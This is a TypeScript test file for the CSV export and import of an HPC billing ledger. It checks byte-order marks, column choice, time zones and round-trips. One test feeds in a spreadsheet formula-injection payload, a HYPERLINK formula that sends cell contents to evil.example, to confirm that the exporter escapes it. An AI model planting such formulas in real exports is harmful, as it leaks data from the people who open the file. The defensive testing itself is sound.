import { formatError, isHpckitError, type Payment } from '@hpckit/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { canonicalAmount } from '../stores/amount-codec.js';
import type { ChargeRecord } from '../stores/records.js';
import { chargesToCsv, parseChargesCsv, parsePaymentsCsv, paymentsToCsv } from './ledger-csv.js';

const anyText = fc.string({ unit: 'binary', maxLength: 20 }).filter((s) => !s.includes('\0'));
// Often starting like a spreadsheet formula, or with the guard's own quote.
const text = fc.oneof(
  anyText,
  fc.tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', "'", "''"), anyText).map(([a, b]) => a + b),
);
const time = fc.date({ min: new Date('2000-01-01'), max: new Date('2100-01-01'), noInvalidDate: true });
const amount = fc
  .tuple(fc.bigInt({ min: 0n, max: 10n ** 12n }), fc.integer({ min: 0, max: 999_999 }))
  .map(([i, f]) => `${i}.${String(f).padStart(6, '0')}`.replace(/0{1,4}$/, ''));

const charge: fc.Arbitrary<ChargeRecord> = fc.record(
  {
    id: fc.uuid(),
    account: fc.constantFrom('chem', 'bio'),
    user: fc.constantFrom('alice', 'bob'),
    kind: fc.constantFrom('job', 'manual', 'reversal'),
    type: text.filter((s) => s.length > 0),
    amount,
    currency: fc.constant('CNY'),
    job: fc.record({
      cluster: fc.constant('c1'),
      jobId: fc.stringMatching(/^[0-9]{1,6}(_[0-9]{1,3})?$/),
      submitTime: time,
    }),
    reverses: fc.uuid(),
    time,
    comment: text,
    operator: fc.constantFrom('fin', 'root'),
  },
  { requiredKeys: ['id', 'account', 'kind', 'type', 'amount', 'currency', 'time'] },
);

describe('ledger CSV', () => {
  const one: ChargeRecord = {
    id: 'c-1',
    account: 'chem',
    user: 'alice',
    kind: 'manual',
    type: 'storage',
    amount: '12.50',
    currency: 'CNY',
    time: new Date('2026-01-08T02:00:00Z'),
    comment: '存储费 一月',
  };

  it('writes a UTF-8 byte-order mark for Excel on Chinese Windows, and reads such a file back', () => {
    const csv = chargesToCsv([one], { bom: true, timeZone: 'Asia/Shanghai' });
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.slice(1).startsWith('id,time,')).toBe(true);
    expect(Buffer.from(chargesToCsv([one]), 'utf8')[0]).toBe('i'.charCodeAt(0));
    expect(parseChargesCsv(csv)).toEqual([one]);
    expect(paymentsToCsv([], { bom: true }).charCodeAt(0)).toBe(0xfeff);
  });

  it('writes the chosen columns in the chosen order', () => {
    const csv = chargesToCsv([one], { columns: ['amount', 'user', 'comment'] });
    expect(csv).toBe('amount,user,comment\r\n12.50,alice,存储费 一月\r\n');
  });

  it('refuses an unknown column with a typed error listing the valid ones, in English and Chinese', () => {
    let caught: unknown;
    try {
      chargesToCsv([one], { columns: ['amount', 'price' as never] });
    } catch (err) {
      caught = err;
    }
    expect(isHpckitError(caught, 'VALIDATION')).toBe(true);
    const err = caught as Error & { details: { issues: { path: (string | number)[] }[] } };
    expect(err.details.issues[0]?.path).toEqual(['options', 'columns', 1]);
    expect(err.message).toContain('"job_submit_time"');
    const zh = formatError(err, { locale: 'zh-CN' });
    expect(zh).toContain('应为以下之一');
    expect(zh).toContain('"operator"');
    expect(() => paymentsToCsv([], { columns: ['job_id' as never] })).toThrow(/linked_to/);
  });

  it('round-trips charges exactly, in any time zone', () => {
    fc.assert(
      fc.property(
        fc.array(charge, { maxLength: 8 }),
        fc.constantFrom('UTC', 'Asia/Shanghai', 'America/St_Johns'),
        (charges, timeZone) => {
          const back = parseChargesCsv(chargesToCsv(charges, { timeZone }));
          expect(back).toEqual(charges.map((c) => ({ ...c, amount: canonicalAmount(c.amount) })));
        },
      ),
    );
  });

  it('writes times as local time with the offset, and reads them back to the same instant', () => {
    const p: Payment = {
      id: 'p1',
      account: 'chem',
      kind: 'payment',
      type: 'bank, "wire"',
      amount: '12.50',
      currency: 'CNY',
      time: new Date('2026-01-08T02:00:00Z'),
      comment: '',
      operator: 'fin',
    };
    const csv = paymentsToCsv([p], { timeZone: 'Asia/Shanghai' });
    expect(csv).toBe(
      'id,time,account,kind,type,amount,currency,linked_to,comment,operator\r\n' +
        'p1,2026-01-08T10:00:00.000+08:00,chem,payment,"bank, ""wire""",12.50,CNY,,"",fin\r\n',
    );
    expect(parsePaymentsCsv(csv)).toEqual([p]);
  });

  it('writes text that a spreadsheet would run as a formula as plain text, and reads it back unchanged', () => {
    const p: Payment = {
      id: 'p1',
      account: 'chem',
      kind: 'payment',
      type: '@SUM(A1:A9)',
      amount: '1.00',
      currency: 'CNY',
      time: new Date('2026-01-08T02:00:00Z'),
      comment: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      operator: "'quoted",
    };
    const csv = paymentsToCsv([p]);
    expect(csv.split('\r\n')[1]).toBe(
      `p1,2026-01-08T02:00:00.000+00:00,chem,payment,'@SUM(A1:A9),1.00,CNY,,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",''quoted`,
    );
    expect(parsePaymentsCsv(csv)).toEqual([p]);
  });

  it('refuses a file whose header is not an export header', () => {
    expect(() => parseChargesCsv('a,b\r\n1,2\r\n')).toThrow(/header/);
  });
});
